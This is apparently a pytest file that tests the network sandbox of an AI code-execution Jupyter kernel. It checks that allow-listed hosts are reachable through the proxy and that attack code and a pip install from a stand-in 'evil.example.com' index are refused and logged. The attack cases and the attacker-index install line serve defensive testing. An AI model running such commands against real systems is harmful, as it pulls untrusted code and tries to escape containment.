"""A kernel in a sandbox with a network: what its programs reach through the proxy, for real."""

import json
import os
import re
import socket
import sys
from collections.abc import AsyncIterator, Iterator, Sequence
from pathlib import Path
from typing import Any, cast

import pytest
import pytest_asyncio

from codeact_tui.kernel.jupyter import JupyterKernel
from codeact_tui.protocol.network import Reached
from codeact_tui.sandbox import network
from codeact_tui.sandbox.choice import SandboxMode, SandboxSettings
from codeact_tui.session.reaching import NetworkLog
from tests.kernel.helpers import Cells, Listener, eventually
from tests.kernel.wheels import make_wheel, unpack_pip
from tests.sandbox.attacks import Attack
from tests.sandbox.mechanisms import working_mechanisms
from tests.sandbox.network_attacks import ALLOWED, NAMES, NETWORK_ATTACKS, PRELUDE, PUBLIC
from tests.sandbox.servers import HttpServer

pytestmark = pytest.mark.kernel

WORLD = Path(__file__).parent / "proxy" / "in_a_world.py"
ROOT = Path(__file__).parents[2]


def in_a_world(**world: Any) -> tuple[str, ...]:
    """Give the command of a proxy whose names and addresses are these."""
    return (sys.executable, "-I", "-S", str(WORLD), str(ROOT), json.dumps(world))


REFUSALS = {"PermissionError", "OSError", "ConnectionRefusedError", "gaierror", "HTTPError", "URLError"}
SOCKS = """
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["ALL_PROXY"])
with socket.create_connection((proxy.hostname, proxy.port)) as s:
    s.sendall(b"\\x05\\x02\\x00\\x02")
    if s.recv(2) == b"\\x05\\x02":
        s.sendall(b"\\x01\\x01x" + bytes([len(proxy.password)]) + proxy.password.encode())
        s.recv(2)
    s.sendall(b"\\x05\\x01\\x00\\x03\\x0bexample.org\\x00\\x50")
    s.recv(10)
    s.sendall(b"GET /a HTTP/1.0\\r\\nHost: example.org\\r\\n\\r\\n")
    answer = b""
    while piece := s.recv(4096):
        answer += piece
print(answer.partition(b"\\r\\n\\r\\n")[2].decode())
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HttpServer]:
    folder = tmp_path_factory.mktemp("wheels")
    make_wheel(folder, "tinya", "1.0")
    [wheel] = folder.iterdir()
    listed = f'<a href="/wheels/{wheel.name}">{wheel.name}</a>'.encode()
    with HttpServer(files={"/simple/tinya/": listed, f"/wheels/{wheel.name}": wheel.read_bytes()}) as running:
        yield running


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[HttpServer]:
    with HttpServer("HARM") as running:
        yield running


@pytest.fixture(scope="module")
def lookups(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("lookups") / "names"


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=working_mechanisms())
async def cells(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    server: HttpServer,
    elsewhere: HttpServer,
    lookups: Path,
) -> AsyncIterator[Cells]:
    servers = {f"{PUBLIC} 80": server.port, f"{PUBLIC} 443": server.port}
    command = in_a_world(names=NAMES, servers=servers, elsewhere=elsewhere.port, lookups=str(lookups))
    settings = SandboxSettings(cast("SandboxMode", request.param), network=ALLOWED)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(network, "PROXY_COMMAND", command)
        workspace = tmp_path_factory.mktemp("workspace")
        unpack_pip(workspace / "with_pip")
        environment = {**os.environ, "PYTHONPATH": str(workspace / "with_pip")}
        layer = tmp_path_factory.mktemp("data") / "packages" / "s1"
        kernel = JupyterKernel(workspace, environment=environment, sandbox=settings, layer=layer)
        await kernel.start(Listener())
        yield Cells(kernel)
        await kernel.shutdown()


def looked_up(lookups: Path) -> list[str]:
    return lookups.read_text().split() if lookups.exists() else []


async def printed(cells: Cells, code: str) -> str:
    cells.outputs.clear()
    await cells.run(code)
    assert cells.errors == []
    return cells.text.strip()


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize(
    "code",
    [
        "import urllib.request; print(urllib.request.urlopen('http://example.org/a').read().decode())",
        "import requests; print(requests.get('http://example.org/a').text)",
        "import httpx; print(httpx.get('http://example.org/a').text)",
        "import subprocess; print(subprocess.check_output(['curl', '-s', 'http://example.org/a']).decode())",
        "import subprocess; print(subprocess.check_output(['curl', '-sp', 'http://example.org/a']).decode())",
        SOCKS,
    ],
)
async def test_what_is_allowed_is_reached_by_ordinary_programs(cells: Cells, code: str) -> None:
    assert await printed(cells, code) == "you asked for /a of example.org"


@pytest.mark.asyncio(loop_scope="module")
async def test_pip_installs_from_an_index_that_is_allowed_and_from_no_other(cells: Cells, server: HttpServer) -> None:
    install = "%pip install -q --disable-pip-version-check --no-cache-dir --retries 0 "
    seen = server.requests
    refused = "--index-url http://evil.example.com/simple --trusted-host evil.example.com tinya"
    cells.outputs.clear()
    await cells.run(install + refused)
    assert "No matching distribution" in cells.text
    assert server.requests == seen
    await printed(cells, f"{install}--index-url http://example.org/simple --trusted-host example.org tinya")
    layer = cast("JupyterKernel", cells.kernel).layer
    assert layer is not None
    where = await printed(cells, "import tinya; print(tinya.VERSION, tinya.__file__)")
    assert where.startswith(f"1.0 {layer.folder}/")


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("attack", NETWORK_ATTACKS, ids=lambda attack: cast("Attack", attack).name)
async def test_an_attack_on_an_open_sandbox_reaches_nothing(
    cells: Cells, attack: Attack, elsewhere: HttpServer, lookups: Path
) -> None:
    before = looked_up(lookups)
    seen = elsewhere.requests
    abstract_name = f"codeact-network-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as abstract, socket.socket(type=socket.SOCK_DGRAM) as udp:
        abstract.bind("\0" + abstract_name)
        abstract.listen()
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        code = attack.code
        for name, value in {"port": elsewhere.port, "udp": udp.getsockname()[1], "abstract": abstract_name}.items():
            code = code.replace("{" + name + "}", str(value))
        cells.outputs.clear()
        await cells.run(PRELUDE + code)
        with pytest.raises(BlockingIOError):
            udp.recv(1)
    assert "HARM" not in cells.text
    assert set(cells.errors) <= REFUSALS  # any other would be a mistake in the attack
    assert elsewhere.requests == seen
    new = looked_up(lookups)[len(before) :]
    assert [name for name in new if name not in NAMES or "evil" in name] == []
    for port in re.findall(r"LISTENS (\d+)", cells.text):
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", int(port)))
    assert await printed(
        cells, "import urllib.request; print(urllib.request.urlopen('http://example.org/a').read().decode())"
    )


def _is_told(reached: Sequence[Reached]) -> bool:
    return any(each.host == "told.example" for each in reached) and not any(each.open for each in reached)


@pytest.mark.asyncio(loop_scope="module")
async def test_what_a_cell_has_reached_is_known_at_its_end(cells: Cells) -> None:
    log = NetworkLog(cells.kernel)
    await log.news()
    await cells.run(PRELUDE + "ask('GET http://example.org/a'); ask('GET http://told.example/')")
    await eventually(lambda: _is_told(cells.kernel.reached()))  # by a process that may be slow
    reached = {each.host: each for each in await log.news()}
    assert (reached["example.org"].connections, reached["example.org"].open) == (1, 0)
    assert reached["example.org"].received_bytes > 0
    assert reached["told.example"].refused == 1
    assert await log.news() == ()


@pytest.mark.asyncio(loop_scope="module")
async def test_what_was_reached_and_refused_is_kept_with_its_bytes(cells: Cells) -> None:
    def of(host: str) -> Reached:
        return next(
            (each for each in cells.kernel.reached() if (each.host, each.port) == (host, 80)), Reached(host, 80)
        )

    code = PRELUDE + "ask('GET http://example.org/a'); ask('GET http://unheard.example/')"
    await eventually(lambda: not of("example.org").open)
    before = of("example.org")
    assert await printed(cells, code) == ""
    await eventually(lambda: of("unheard.example").refused)
    refused = Reached("unheard.example", 80, refused=1, reason="sandbox.network does not list unheard.example:80")
    assert of("unheard.example") == refused
    await eventually(lambda: of("example.org").received_bytes > before.received_bytes)
    now = of("example.org")
    assert (now.connections, now.port, now.reason) == (before.connections + 1, 80, "")
    assert now.sent_bytes - before.sent_bytes == len(
        "GET /a HTTP/1.1\r\nHost: example.org\r\nConnection: close\r\n\r\n"
    )
